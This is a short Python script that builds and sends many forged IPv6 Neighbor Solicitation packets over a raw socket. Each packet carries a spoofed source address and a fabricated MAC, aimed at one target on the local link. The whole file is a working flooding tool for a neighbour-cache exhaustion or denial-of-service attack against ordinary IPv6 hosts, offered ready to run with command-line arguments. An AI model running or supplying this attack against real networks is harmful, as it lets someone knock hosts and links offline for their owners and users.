"""Many neighbours that are not there ask for one that is.

usage: fake_neighbours.py INTERFACE LINK_ADDRESS TARGET PREFIX COUNT
"""
import ipaddress
import socket
import struct
import sys


def cksum(octets):
    total = sum(struct.unpack("!%dH" % (len(octets) // 2), octets))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def main():
    interface, link, target, prefix, count = sys.argv[1:]
    dst = bytes.fromhex(link.replace(":", ""))
    to = ipaddress.IPv6Address(target).packed
    base = int(ipaddress.IPv6Address(prefix))
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    for i in range(int(count)):
        mac = struct.pack("!HI", 0x0266, i)
        src = ipaddress.IPv6Address(base + 0x10000 + i).packed
        body = struct.pack("!BBHI", 135, 0, 0, 0) + to + b"\x01\x01" + mac
        pseudo = src + to + struct.pack("!II", len(body), 58)
        body = body[:2] + struct.pack("!H", cksum(pseudo + body)) + body[4:]
        out.send(dst + mac + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + src + to + body)


main()
